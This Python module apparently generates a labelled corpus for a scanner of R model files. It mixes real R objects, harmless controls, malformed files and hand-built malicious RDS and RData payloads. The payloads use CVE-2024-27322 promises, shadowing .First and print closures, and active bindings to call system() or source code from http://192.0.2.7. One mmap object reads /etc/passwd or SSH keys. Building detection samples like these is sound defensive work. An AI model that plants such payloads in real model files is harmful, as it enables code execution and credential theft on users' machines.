"""R serialization: real models by R itself, hand-written promises, closures, bindings and lies."""

from __future__ import annotations

import bz2
import gzip
import lzma
import shutil
import struct
import subprocess
import tempfile
from pathlib import Path

from core import Corpus

NIL, GLOBAL, UNBOUND, MISSING, BASE = (struct.pack(">I", code) for code in (254, 253, 252, 251, 241))
OBJECT, ATTRIBUTES, TAG, ACTIVE = 0x100, 0x200, 0x400, 0x8000 << 12

R_SCRIPT = """
args <- commandArgs(TRUE); dir <- args[1]; seed <- as.integer(args[2]); set.seed(seed)
d <- data.frame(x = rnorm(20), g = factor(rep(c("a", "b"), 10))); d$y <- 2 * d$x + rnorm(20)
f <- function(n) { force(n); function(z) z^n }
lazy <- function(n) { offset <- seed; function(z) z + n + offset }
setClass("Fit", representation(weights = "numeric", note = "character"), where = globalenv())
at <- function(name) file.path(dir, name)
saveRDS(lm(y ~ x, d), at("lm.rds"))
saveRDS(glm(I(y > 0) ~ x, binomial(), d), at("glm.rds"))
saveRDS(kmeans(d$x, 2), at("kmeans.rds"), compress = "xz")
saveRDS(prcomp(d[, c("x", "y")]), at("prcomp.rds"), compress = "bzip2")
saveRDS(loess(y ~ x, d), at("loess.rds"))
saveRDS(smooth.spline(d$x, d$y), at("spline.rds"))
saveRDS(d, at("frame.rds"), compress = FALSE)
saveRDS(list(1:(90 + seed), letters, NULL, NA, 1i, as.raw(1:9)), at("list.rds"), version = 2)
saveRDS(lm(y ~ x + g, d), at("ascii.rds"), ascii = TRUE)
saveRDS(f(seed), at("closure.rds"))
saveRDS(lazy(seed), at("lazy.rds"))
saveRDS(new("Fit", weights = rnorm(3), note = "system of equations"), at("s4.rds"))
saveRDS(ecdf(d$x), at("ecdf.rds"))
model <- lm(y ~ poly(x, 2), d); settings <- list(seed = seed, note = "eval set"); helper <- function(m) summary(m)
save(model, settings, file = at("model.RData"))
save(model, helper, file = at("helper.rda"), compress = "xz")
save(settings, file = at("ascii.RData"), ascii = TRUE)
saveRDS(nls(y ~ a * x + b, d, start = list(a = 1, b = 0)), at("nls.rds"))
"""


def _flags(kind: int, extra: int = 0) -> bytes:
    return struct.pack(">I", kind | extra)


def _char(text: str) -> bytes:
    body = text.encode()
    return _flags(9, 0x40000) + struct.pack(">i", len(body)) + body


def _symbol(name: str) -> bytes:
    return _flags(1) + _char(name)


def _string(*texts: str) -> bytes:
    return _flags(16) + struct.pack(">i", len(texts)) + b"".join(_char(text) for text in texts)


def _real(*numbers: float) -> bytes:
    return _flags(14) + struct.pack(f">i{len(numbers)}d", len(numbers), *numbers)


def _pairs(*cells: tuple[str, bytes], extra: int = 0) -> bytes:
    """A pairlist of tagged cells."""
    return b"".join(_flags(2, TAG | extra) + _symbol(name) + value for name, value in cells) + NIL


def _call(head: bytes, *args: bytes) -> bytes:
    """A call; symbols are written out each time, which R reads as well as references."""
    return _flags(6) + head + b"".join(_flags(2) + arg for arg in args) + NIL


def _vector(*items: bytes, attributes: bytes = b"") -> bytes:
    return _flags(19, ATTRIBUTES if attributes else 0) + struct.pack(">i", len(items)) + b"".join(items) + attributes


def _named(*entries: tuple[str, bytes]) -> bytes:
    return _vector(*[value for _, value in entries], attributes=_pairs(("names", _string(*[name for name, _ in entries]))))


def _promise(expression: bytes, value: bytes = UNBOUND, environment: bytes = b"") -> bytes:
    return _flags(5, TAG if environment else 0) + environment + value + expression


def _closure(formals: bytes, body: bytes, environment: bytes = GLOBAL) -> bytes:
    return _flags(3, TAG) + environment + formals + body


def _environment(frame: bytes, enclosure: bytes = GLOBAL) -> bytes:
    return _flags(4) + struct.pack(">i", 0) + enclosure + frame + NIL + NIL


def _stream(item: bytes, version: int = 3) -> bytes:
    head = b"X\n" + struct.pack(">III", version, 0x00040202, 0x00030500 if version == 3 else 0x00020300)
    return head + (struct.pack(">i", 5) + b"UTF-8" if version == 3 else b"") + item


def _pack(corpus: Corpus, data: bytes) -> bytes:
    """Compressed as R could have: by gzip, xz, bzip2 or not at all, in turn."""
    return corpus.rng.choice([lambda raw: gzip.compress(raw, mtime=0), lzma.compress, bz2.compress, bytes])(data)


def _rdata(item: bytes) -> bytes:
    return b"RDX3\n" + _stream(item)


def _r_benign(corpus: Corpus) -> None:
    if shutil.which("Rscript") is None:
        corpus.skipped.append("r: Rscript is not installed, real R models left out")
        return
    with tempfile.TemporaryDirectory() as folder:
        script = Path(folder) / "make.R"
        script.write_text(R_SCRIPT)
        subprocess.run(["Rscript", "--vanilla", str(script), folder, str(corpus.seed)], check=True, capture_output=True)
        for path in sorted(Path(folder).glob("*.[rR][dD]*")):
            corpus.benign("r", path.name, path.read_bytes(), f"real R object: {path.stem}")


def _r_controls(corpus: Corpus) -> None:
    """Hand-written but harmless: what a rule must not take for an attack."""
    x = _symbol("x")
    square = _closure(_pairs(("x", MISSING)), _call(_symbol("*"), x, x))
    forced = _environment(_pairs(("n", _promise(_symbol("k"), _real(3.0)))))
    controls = [
        ("closure", square),
        ("quoted call", _call(_symbol("mean"), x)),
        ("forced promise in an environment", _closure(_pairs(("z", MISSING)), _call(_symbol("+"), _symbol("z"), _symbol("n")), forced)),
        ("text that names system", _named(("note", _string(f"system call: {corpus.command}")), ("w", _real(1.0, 2.0)))),
    ]
    for technique, item in controls:
        corpus.benign("r", "model.rds", _pack(corpus, _stream(item, corpus.pick(3, 2))), f"hand-written: {technique}")


def _r_hostile_calls(corpus: Corpus) -> list[bytes]:
    """Different ways to name the same command."""
    command = _string(corpus.command)
    plain = _call(_symbol(corpus.pick("system", "system2")), command)
    spaced = _call(_call(_symbol("::"), _symbol("base"), _symbol(corpus.pick("shell", "system"))), command)
    parsed = _call(_symbol("eval"), _call(_symbol("parse"), _string(f"system('{corpus.command}')")))
    fetched = _call(_symbol(corpus.pick("source", "download.file")), _string("http://192.0.2.7/x.R"), _string("/tmp/x.R"))
    indirect = _call(_symbol("do.call"), _string("system"), _call(_symbol("list"), command))
    return [plain, spaced, parsed, fetched, indirect]


def _r_attacks(corpus: Corpus) -> None:
    calls = _r_hostile_calls(corpus)
    for number, call in enumerate(calls):
        environment = BASE if number % 2 else b""
        corpus.bad(
            "r",
            "model.rds",
            _pack(corpus, _stream(_promise(call, UNBOUND, environment))),
            "promise at the top (CVE-2024-27322)",
            "code execution",
        )
    fit = (("coefficients", _real(1.0, 2.0)), ("call", _promise(calls[corpus.pick(0, 2)])))
    corpus.bad("r", "model.rds", _pack(corpus, _stream(_named(*fit))), "promise in a list", "code execution")
    attribute = _vector(_real(1.0), attributes=_pairs(("class", _promise(calls[corpus.pick(1, 4)], UNBOUND, GLOBAL))))
    corpus.bad("r", "model.rds", _pack(corpus, _stream(attribute)), "promise as an attribute", "code execution")
    formals = _pairs(("x", MISSING), ("...", MISSING))
    body = _call(_symbol("{"), calls[corpus.pick(0, 1)], _symbol("x"))
    start = corpus.pick(".First", ".Last")
    for name in (start, corpus.pick("print", "library"), corpus.pick("predict.lm", "summary.glm"), corpus.pick("c", "<-")):
        corpus.bad(
            "r",
            "model.RData",
            _pack(corpus, _rdata(_pairs(("fit", _real(1.0)), (name, _closure(formals, body))))),
            f"function {name} that shadows",
            "code execution",
        )
    corpus.bad(
        "r",
        "model.RData",
        _pack(corpus, _rdata(_pairs(("model", _promise(calls[corpus.pick(3, 0)]))))),
        "variable bound to a promise",
        "code execution",
    )
    active = _environment(_pairs(("weights", _closure(NIL, calls[corpus.pick(2, 3)])), extra=ACTIVE))
    corpus.bad("r", "model.rds", _pack(corpus, _stream(_named(("env", active)))), "active binding", "code execution")
    link = _named(
        ("family", _string("binomial")),
        ("linkfun", _closure(_pairs(("mu", MISSING)), _call(_symbol("{"), calls[corpus.pick(4, 1)], _symbol("mu")))),
    )
    corpus.bad("r", "model.rds", _pack(corpus, _stream(link)), "model function that calls the system", "code execution")
    info = (
        _flags(2)
        + _symbol(corpus.pick("mmap_real", "mmap_integer"))
        + _flags(2)
        + _symbol("base")
        + _flags(2)
        + _flags(13)
        + struct.pack(">ii", 1, 14)
        + NIL
    )
    state = _vector(_string(corpus.pick("/etc/passwd", "/root/.ssh/id_rsa")), _real(64.0, 14.0))
    corpus.bad("r", "model.rds", _pack(corpus, _stream(_flags(238) + info + state + NIL)), "mapping of a local file", "reads a file")


def _r_lies(corpus: Corpus) -> None:
    huge = corpus.pick(0x7FFFFFF0, 0x10000000)
    items = [
        ("vector longer than the file", _flags(14) + struct.pack(">i", huge) + bytes(64)),
        ("long vector of impossible length", _flags(24) + struct.pack(">iII", -1, 0x00FFFFFF, corpus.pick(1, 77))),
        ("negative length", _flags(13) + struct.pack(">i", corpus.pick(-2, -77)) + bytes(16)),
        ("reference to nothing", _flags(255, corpus.pick(9, 70000) << 8)),
        ("unknown type", _flags(corpus.pick(77, 200)) + bytes(16)),
        ("nesting without end", (_flags(19) + struct.pack(">i", 1)) * corpus.pick(20000, 60000) + NIL),
    ]
    for technique, item in items:
        corpus.lie("r", "model.rds", corpus.pick(bytes, lambda raw: gzip.compress(raw, mtime=0))(_stream(item)), technique)


def r_files(corpus: Corpus) -> None:
    """All R samples."""
    _r_benign(corpus)
    _r_controls(corpus)
    _r_attacks(corpus)
    _r_lies(corpus)


MAKERS = {"r": r_files}
